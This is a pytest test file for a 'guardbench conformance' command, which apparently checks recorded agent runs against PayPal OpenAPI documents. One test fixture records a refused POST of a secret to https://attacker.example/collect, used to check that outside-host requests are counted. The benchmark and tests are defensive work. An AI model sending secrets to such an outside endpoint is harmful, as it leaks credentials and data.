"""`guardbench conformance`: outputs, exit codes, recorded runs, and the check core."""
from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
from click.testing import CliRunner

from guardbench.cli.main import cli
from guardbench.conformance import corpus, rules
from guardbench.conformance.check import run_check
from guardbench.conformance.probe import REJECT, VALID, Probe
from guardbench.paypal.endpoints import ENDPOINTS, SANDBOX_HOST
from guardbench.paypal.leniency import LENIENCIES
from guardbench.records.record import WireExchange, WireRequest, WireResponse

REPO = Path(__file__).resolve().parents[2]
SHARED = Path(os.environ.get("GUARDBENCH_SPECS_DIR") or REPO.parent / "shared" / "specs" / "paypal")
pytestmark = pytest.mark.skipif(not SHARED.is_dir(), reason="needs ../shared/specs/paypal")


def _valid(name):
    return next(p.request for p in corpus.builtin_valid() if p.name == name)


def _full(i: int, row: dict) -> dict:
    """A complete run record (every field a reader checks) around the given arm, case and wire."""
    case = row.get("case", f"c{i}")
    base = {"run_id": f"{case}/v0/{row['arm']}/credulous/-/r{i}", "case": case, "family": "benign", "variant": 0,
            "agent": "credulous", "repeat": i, "status": "answered", "steps": 1, "incidents": [],
            "goal_achieved": None, "benign_completed": True, "money_at_risk": {}, "attempts": []}
    return {**base, **row}


def _write_run(folder: Path, rows: list[dict]) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    with (folder / "runs.jsonl").open("w") as fh:
        for i, r in enumerate(rows):
            fh.write(json.dumps(_full(i, r)) + "\n")
    return folder


def _good_run(folder: Path) -> Path:
    token = WireRequest.make("POST", f"https://{SANDBOX_HOST}/v1/oauth2/token",
                             {"Content-Type": "application/x-www-form-urlencoded"}, "grant_type=client_credentials")
    order = _valid("orders.create")
    order_resp = WireResponse.make(201, {"id": "5O190127TN364715T", "status": "CREATED"})
    leak = WireRequest.make("POST", "https://attacker.example/collect", {"Content-Type": "application/json"},
                            {"secret": "x"})
    wire = [WireExchange(0, "r1", token, WireResponse.make(200, {"access_token": "t"})).to_dict(),
            WireExchange(1, "r1", order, order_resp).to_dict(),
            WireExchange(2, "r1", leak, None, "refused").to_dict()]
    return _write_run(folder, [{"arm": "broker", "case": "c1", "wire": wire},
                               {"arm": "control", "case": "c1", "wire": wire[:2]}])


def test_builtin_check_passes_and_writes_outputs(tmp_path):
    out = tmp_path / "out"
    res = CliRunner().invoke(cli, ["conformance", "--out", str(out)])
    assert res.exit_code == 0, res.output
    for label in ("routes found", "requests valid", "negative controls rejected", "patches applied",
                  "business rules listed", "policy operations sent (broker)", "benign cases sent (control arm)",
                  "stand-in answers as documented", "known stand-in gaps", "PASS"):
        assert label in res.output
    data = json.loads((out / "conformance.json").read_text())
    s = data["summary"]
    n_valid, n_controls = len(corpus.builtin_valid()), len(corpus.negative_controls())
    by = s["by_source"]
    assert by["builtin"]["routes_found"] == [n_valid, n_valid] and by["builtin"]["requests_valid"] == [n_valid, n_valid]
    n_all = sum(by[k]["requests"] for k in ("builtin", "broker", "control_arm"))
    # the broker's accept-claim is JSON, accepted only under the named leniency accept_claim_json: it is judged
    # with the requests the documents reject (paypal/leniency.py), not among those that must be valid
    assert s["routes_found"] == [n_all - 1, n_all - 1] and s["requests_valid"] == [n_all - 1, n_all - 1]
    n_served = sum(1 for e in ENDPOINTS.values() if e.spec)
    assert n_served == 27        # 24, and order PATCH, authorization capture, invoice payment (issue P)
    assert s["endpoints_covered"] == [n_served, n_served]
    # ... and, as the documents reject it, the broker's JSON accept-claim counts beside the negative controls
    assert s["negative_controls_rejected"] == [n_controls + 1, n_controls + 1]
    assert s["policy_operations_covered"] == [9, 9] and s["benign_cases_covered"][0] == s["benign_cases_covered"][1]
    assert s["patches_applied"] == 6 and s["documents"] == 6 and s["documents_untouched"] == 5
    assert s["business_rules_listed"] == len(rules.business_rules())
    assert s["standin"]["new_gaps"] == 0 and s["standin"]["closed_gaps"] == 0
    assert s["passed"] is True and data["failures"] == []
    md = (out / "conformance.md").read_text()
    assert "## Patches applied at load time" in md and "/components/parameters/dispute_state/enum" in md
    assert "AMOUNT_MISMATCH" in md and "## Known gaps: where the stand-in differs from the documents" in md
    assert "disputes.accept_claim" in md and "## Named leniencies" in md and "accept_claim_json" in md
    assert s["leniencies_listed"] == len(LENIENCIES) and "null_as_absent.orders.create" in md


def test_recorded_run_is_classified(tmp_path):
    run = _good_run(tmp_path / "run")
    res = CliRunner().invoke(cli, ["conformance", "--run", str(run), "--out", str(tmp_path / "o"), "--json"])
    assert res.exit_code == 0, res.output
    s = json.loads(res.stdout[res.stdout.index("{"):])
    assert s["records"] == 2 and s["exchanges"] == 5
    assert s["paypal_requests_conforming"] == [2, 2] and s["responses_conforming"] == [2, 2]
    assert s["oauth_token_calls_not_covered_by_documents"] == 2 and s["outside_host_requests"] == 1
    assert set(s["by_arm"]) == {"broker", "control"}
    assert s["by_arm"]["broker"]["share_conforming"] == 1.0


def test_run_mode_writes_a_new_folder_by_default_never_the_run_folder(tmp_path, monkeypatch):
    run = _good_run(tmp_path / "run")
    monkeypatch.chdir(tmp_path)
    res = CliRunner().invoke(cli, ["conformance", "--run", str(run)])
    assert res.exit_code == 0, res.output
    assert sorted(p.name for p in run.iterdir()) == ["runs.jsonl"]
    (out,) = (tmp_path / "out").glob("conformance-*")
    assert (out / "conformance.json").is_file() and (out / "conformance.md").is_file()
    assert json.loads((out / "conformance.json").read_text())["kind"] == "run"
    assert "PayPal OpenAPI conformance of a recorded run" in res.output and "share" in res.output


def test_nonconforming_recorded_request_fails(tmp_path):
    body = _valid("orders.create").json()
    del body["purchase_units"][0]["items"][0]["name"]
    bad = WireRequest.make("POST", f"https://{SANDBOX_HOST}/v2/checkout/orders",
                           {"Content-Type": "application/json"}, body)
    run = _write_run(tmp_path / "run", [{"arm": "bare", "wire": [WireExchange(0, "r", bad, None).to_dict()]}])
    res = CliRunner().invoke(cli, ["conformance", "--run", str(run), "--out", str(tmp_path / "o")])
    assert res.exit_code == 1
    assert "request must conform but does not" in res.output and "'name' is a required property" in res.output


def test_nonconforming_response_fails_only_when_strict(tmp_path):
    ex = WireExchange(0, "r", _valid("orders.create"), WireResponse.make(201, {"id": 7}))
    run = _write_run(tmp_path / "run", [{"arm": "a", "wire": [ex.to_dict()]}])
    args = ["conformance", "--run", str(run), "--out", str(tmp_path / "o")]
    assert CliRunner().invoke(cli, args).exit_code == 0
    assert CliRunner().invoke(cli, args + ["--strict-responses", "--force"]).exit_code == 1   # over the first


def test_core_fails_when_a_control_passes_or_a_valid_request_fails():
    good = _valid("orders.get")
    bad = WireRequest.make("GET", f"https://{SANDBOX_HOST}/v2/checkout/orders/lower-case")
    report = run_check([Probe("looks like a control", good, REJECT, "control")], SHARED)
    assert report.failed and report.failures()[0]["why"] == "negative control passed"
    report = run_check([Probe("should be valid", bad, VALID, "broker")], SHARED)
    assert report.failed and report.failures()[0]["why"] == "should conform but does not"
    assert not run_check([Probe("ok", good, VALID, "broker"), Probe("ko", bad, REJECT, "x")], SHARED).failed


def test_bad_specs_dir_exits_2(tmp_path):
    folder = tmp_path / "paypal"
    shutil.copytree(SHARED, folder)
    (folder / "customer_disputes_v1.json").unlink()
    res = CliRunner().invoke(cli, ["conformance", "--specs-dir", str(folder), "--out", str(tmp_path / "o")])
    assert res.exit_code == 2
    err = [ln for ln in res.output.splitlines() if ln.startswith("error:")]
    assert len(err) == 1 and "customer_disputes_v1.json" in err[0] and "missing" in err[0]


def test_malformed_runs_file_exits_2(tmp_path):
    run = _write_run(tmp_path / "run", [{"arm": "a", "wire": [{"seq": 1}]}])
    res = CliRunner().invoke(cli, ["conformance", "--run", str(run), "--out", str(tmp_path / "o")])
    assert res.exit_code == 2 and f"{run / 'runs.jsonl'}: line 1: field 'wire': exchange 0" in res.output
    assert len(res.output.strip().splitlines()) == 1


def test_importing_the_cli_does_not_import_openapi_core():
    code = ("import sys, guardbench.cli.main, guardbench.cli.specs, guardbench.cli.conformance, "
            "guardbench.conformance.specs, guardbench.conformance.loader, guardbench.conformance.validate, "
            "guardbench.conformance.corpus, guardbench.conformance.probe, guardbench.conformance.rules, "
            "guardbench.conformance.check, guardbench.conformance.outcomes, "
            "guardbench.conformance.explain, "
            "guardbench.conformance.render, "
            "guardbench.conformance.runs, guardbench.conformance.replay, guardbench.conformance.compose; "
            "heavy = [m for m in ('openapi_core', 'openapi_spec_validator', 'jsonschema_path', 'httpx') "
            "if m in sys.modules]; print(heavy); sys.exit(1 if heavy else 0)")
    proc = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, cwd=REPO)
    assert proc.returncode == 0, proc.stdout + proc.stderr


def test_whole_check_in_a_fresh_interpreter(tmp_path):
    """Imports, hashing, loading six documents, the broker and the control arm composing, the
    stand-in answering, the validations, writing. (Its speed is a figure of
    bench/bench_conformance.py, not a timed test.)"""
    proc = subprocess.run([sys.executable, "-m", "guardbench.cli.main", "conformance", "--out", str(tmp_path)],
                          capture_output=True, text=True)
    assert proc.returncode == 0, proc.stdout + proc.stderr
